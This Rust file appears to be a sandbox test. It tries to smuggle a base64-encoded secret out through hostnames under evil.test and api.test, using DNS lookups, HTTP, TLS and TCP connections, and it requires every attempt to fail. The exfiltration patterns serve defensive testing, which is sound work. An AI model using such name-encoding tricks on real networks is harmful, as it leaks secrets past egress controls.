//! Sends a secret in names: looked up, asked for by HTTP, connected to.
use std::net::{TcpStream, ToSocketAddrs};
use std::process::ExitCode;

use toolward_guests::http::Ask;
use toolward_guests::{Attack, given};

fn main() -> ExitCode {
    let [port] = given();
    let mut attack = Attack::begin();
    for number in 0..4 {
        for name in [
            format!("c2VjcmV0.{number}.evil.test"),
            format!("c2VjcmV0{number}.api.test"),
            format!("c2VjcmV0-{number}api.test"),
            format!("api.test.c2VjcmV0{number}.evil.test"),
        ] {
            let authority = format!("{name}:{port}");
            attack.must_fail(format!("look up {name}"), authority.to_socket_addrs().map(Iterator::count));
            attack.must_fail(format!("ask {name}"), Ask::get("http://x/open/x").authority(&authority).send());
            attack.must_fail(format!("ask {name} by TLS"), Ask::get("https://x/open/x").authority(&authority).send());
            attack.must_fail(format!("connect {name}"), TcpStream::connect(&authority).map(drop));
        }
    }
    attack.end()
}
